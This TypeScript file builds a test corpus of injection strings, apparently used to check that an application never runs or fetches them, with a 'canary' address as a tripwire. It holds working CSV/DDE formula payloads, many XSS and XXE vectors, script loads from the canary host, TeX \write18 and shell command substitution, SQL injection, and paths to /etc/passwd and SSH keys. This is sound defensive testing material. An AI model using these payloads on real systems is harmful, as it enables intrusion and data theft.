/**
 * Texts that programs have taken for orders: written here after the published classes of such attacks (OWASP's lists for CSV, XSS and XML, the Unicode
 * reports on bidi and confusable text, the manuals of TeX and BibTeX). `canary` is an address that must never be asked for.
 */
export function vectors(canary: string): string[] {
  const call = `fetch('${canary}/js')`;
  const mark = 'window.claimdeskRan=1';
  return [
    ...new Set([
      ...formulas(canary),
      ...markup(canary, call, mark),
      ...links(canary, call),
      ...xml(canary),
      ...letters(),
      ...languages(canary),
      ...names(),
    ]),
  ];
}

/** Formulas and links of spreadsheets, behind everything that a reader may skip before them. */
function formulas(canary: string): string[] {
  const starts = [
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '\u00a0=',
    '\ufeff=',
    '\uff1d',
    '\uff0b',
    '\uff0d',
    '\uff20',
    '\u200b=',
    "'=",
    '"=',
    ';=',
    ',=',
  ];
  const orders = [
    '1+1',
    'SUM(1,2)',
    `HYPERLINK("${canary}/h","click")`,
    `WEBSERVICE("${canary}/w")`,
    `IMPORTXML("${canary}/x","//a")`,
    `IMAGE("${canary}/i.png")`,
    `cmd|' /C calc'!A0`,
    `DDE("cmd";"/C calc";"1")`,
    `MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1`,
    `rundll32|'URL.dll,OpenURL calc.exe'!A`,
  ];
  return starts.flatMap((start) => orders.map((order) => `${start}${order}`));
}

/** HTML, SVG, MathML and CSS, whole and broken, with the tricks of parsers that read a text twice. */
function markup(canary: string, call: string, mark: string): string[] {
  const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter'];
  const holders = [
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'iframe',
    'object data=x',
    'marquee',
    'a href=x',
  ];
  return [
    ...handlers.flatMap((handler) => holders.map((holder) => `<${holder} ${handler}="${mark};${call}">`)),
    `<script>${mark}</script>`,
    `</script><script>${mark}</script>`,
    `<script src="${canary}/s.js"></script>`,
    `<ScRiPt>${mark}</sCrIpT>`,
    `<scr<script>ipt>${mark}</scr</script>ipt>`,
    `</title><script>${mark}</script>`,
    `</style><script>${mark}</script>`,
    `</textarea><img src=x onerror=${mark}>`,
    `--><img src=x onerror=${mark}><!--`,
    `]]><img src=x onerror=${mark}>`,
    `"><img src=x onerror=${mark}>`,
    `' onfocus='${mark}' autofocus='`,
    `" onfocus="${mark}" autofocus="`,
    `\` onfocus=${mark} \``,
    `<img src="${canary}/img.png">`,
    `<img srcset="${canary}/a.png 1x">`,
    `<link rel=stylesheet href="${canary}/c.css">`,
    `<link rel=prefetch href="${canary}/p">`,
    `<base href="${canary}/">`,
    `<meta http-equiv=refresh content="0;url=${canary}/r">`,
    `<iframe src="${canary}/f"></iframe>`,
    `<iframe srcdoc="<script>parent.claimdeskRan=1</script>"></iframe>`,
    `<object data="${canary}/o"></object>`,
    `<embed src="${canary}/e">`,
    `<form action="${canary}/form"><button>go</button></form>`,
    `<video poster="${canary}/v"><source src="${canary}/s"></video>`,
    `<audio src="${canary}/a" autoplay>`,
    `<svg><image href="${canary}/svg.png"/></svg>`,
    `<svg><use href="${canary}/u.svg#a"/></svg>`,
    `<svg><script>${mark}</script></svg>`,
    `<svg><foreignObject><img src=x onerror=${mark}></foreignObject></svg>`,
    `<svg><a xlink:href="javascript:${mark}"><text>x</text></a></svg>`,
    `<svg><animate attributeName=href values="javascript:${mark}"/></svg>`,
    `<svg><style>@import '${canary}/svg.css'</style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${mark}></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${mark}>`,
    `<template><script>${mark}</script></template>`,
    `<style>*{background:url(${canary}/css)}</style>`,
    `<style>@import url(${canary}/import.css);</style>`,
    `<p style="background:url('${canary}/bg')">x</p>`,
    `<p style="width:expression(${mark})">x</p>`,
    `</p><p style="position:fixed;inset:0">cover</p>`,
    `red;background:url(${canary}/colour)`,
    `&lt;script&gt;${mark}&lt;/script&gt;`,
    `&#60;script&#62;${mark}&#60;/script&#62;`,
    `&#x3c;img src=x onerror=${mark}&#x3e;`,
    `&amp;lt;img src=x onerror=${mark}&amp;gt;`,
    `%3Cscript%3E${mark}%3C/script%3E`,
    `\\u003cscript\\u003e${mark}\\u003c/script\\u003e`,
    `\uff1cscript\uff1e${mark}\uff1c/script\uff1e`,
    `<\u0000script>${mark}</script>`,
    `<img/src="x"/onerror=${mark}>`,
    `<img\u000csrc=x\u000conerror=${mark}>`,
  ];
}

/** Addresses that run or fetch, bare and as links of Markdown. */
function links(canary: string, call: string): string[] {
  const addresses = [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    `java\tscript:${call}`,
    `java\nscript:${call}`,
    `\u0001javascript:${call}`,
    ` javascript:${call}`,
    `javascript&colon;${call}`,
    `&#106;avascript:${call}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${call}</script>`,
    `data:image/svg+xml,<svg onload="${call}">`,
    `file:///etc/passwd`,
    `//${canary.replace(/^https?:\/\//, '')}/scheme`,
    `\\\\127.0.0.1\\share\\x`,
    `view-source:${canary}`,
    `blob:${canary}/x`,
    `mailto:a@example.org?attach=/etc/passwd`,
    `${canary}/plain`,
  ];
  return addresses.flatMap((address) => [
    address,
    `[click](${address})`,
    `![picture](${address})`,
    `<${address}>`,
    `[r]: ${address}`,
    `[click][r](<${address}> "title")`,
  ]);
}

function xml(canary: string): string[] {
  return [
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "${canary}/dtd">]><a>&x;</a>`,
    `<!DOCTYPE a [<!ENTITY % p SYSTEM "${canary}/p"> %p;]>`,
    '<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>&b;',
    '&undefined;',
    '&#0;',
    '&#xD800;',
    '<![CDATA[<b>x</b>]]>',
    ']]>',
    ']]&gt;<b>',
    '<?xml-stylesheet href="' + canary + '/xsl"?>',
    `<xi:include href="${canary}/xi" parse="text"/>`,
    '</w:t></w:r></w:p><w:p><w:r><w:t>other',
    `<w:instrText>INCLUDEPICTURE "${canary}/ip"</w:instrText>`,
    `{ INCLUDETEXT "${canary}/it" }`,
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    '_x003D_1+1',
    '_x0000_',
    '--><!--',
    '<!-- x -- y -->',
  ];
}

/** Letters that hide, turn round or break what stands beside them. */
function letters(): string[] {
  const codes = [
    0x0, 0x1, 0x7, 0x8, 0xb, 0xc, 0xe, 0x1b, 0x7f, 0x80, 0x85, 0x9f, 0xad, 0x61c, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028,
    0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xd800, 0xdbff, 0xdc00, 0xdfff, 0xe000, 0xfdd0,
    0xfeff, 0xfff9, 0xfffb, 0xfffd, 0xfffe, 0xffff,
  ];
  const made = codes.flatMap((code) => [`a${String.fromCharCode(code)}b`, `${String.fromCharCode(code)}=1+1`]);
  return [
    ...made,
    'invoice\u202exlsx.exe',
    '\u202e\u2066=1+1\u2069\u2066safe\u2069',
    'Z\u0335\u0336\u0337\u0338a'.repeat(20),
    '\ud83d\ude00\ud83d',
    '\ude00\ud83d',
    '\u{e0001}\u{e0068}\u{e0069}',
    '\u{10ffff}',
    'pаypal',
    '\r\nSet-Cookie: a=b\r\n\r\n<script>window.claimdeskRan=1</script>',
  ];
}

/** Words that mean something to BibTeX, RIS, TeX, JSON, SQL, Markdown and templates. */
function languages(canary: string): string[] {
  return [
    '\\input{/etc/passwd}',
    '\\write18{calc}',
    '\\immediate\\write18{touch /tmp/claimdesk-ran}',
    '\\href{javascript:alert(1)}{x}',
    '\\catcode`\\%=12',
    '}, author = {Nobody}, title = {',
    '} @article{x, title={y}}',
    '@preamble{"\\input x"}',
    '@string{a = "b"}',
    '{{unbalanced',
    'unbalanced}}',
    '%comment # & _ ^ ~ $',
    'x\r\nER  - \r\nTY  - JOUR\r\nTI  - other',
    'ER  - ',
    '{{count: view}}',
    '{{constructor.constructor("return process")()}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{% include "x" %}',
    '[[claim:00000000-0000-7000-8000-000000000000|gone]]',
    '[[source:x]] [[',
    ']]',
    '"}],"@context":"' + canary + '/context"}',
    '{"@id":"' + canary + '/id"}',
    '"__proto__":{"polluted":1}',
    '__proto__',
    'constructor',
    "'; DROP TABLE claim; --",
    '"quoted","cells"',
    'a,b;c\td|e',
    '| a | b |\n|---|---|',
    '# heading\n\n- item\n\n> quote\n\n---',
    '```\ncode\n```',
    '~~~html\n<script>window.claimdeskRan=1</script>\n~~~',
    '    <script>window.claimdeskRan=1</script>',
    '<!-- -->\n<script>window.claimdeskRan=1</script>',
    '*a **b __c `d ![e [f (g',
    '[^1]: <img src=x onerror=window.claimdeskRan=1>',
    '---\ntitle: x\n---',
    '\\<img src=x onerror=window.claimdeskRan=1>',
    '$$\\require{html}\\href{javascript:alert(1)}{x}$$',
    '$(touch /tmp/claimdesk-ran)',
    '`touch /tmp/claimdesk-ran`',
    '%00%0d%0a',
    '%s%n%x',
    'NaN',
    'Infinity',
    '1e309',
    'NULL',
    'true',
    '0012',
    '1/2',
    '2026-01-01',
    '=',
    "'",
    '"',
  ];
}

/** Names that lead out of a folder, or that systems keep for themselves. */
function names(): string[] {
  return [
    '../../../../tmp/claimdesk-ran',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\Windows\\x',
    'CON',
    'aux.txt',
    'a/b/c',
    'name:stream',
    'x'.repeat(180),
    '. .',
    '...',
    '~/.ssh/id_rsa',
    'a\u0000.exe',
    '-rf',
    '--out=/tmp/claimdesk-ran',
  ];
}
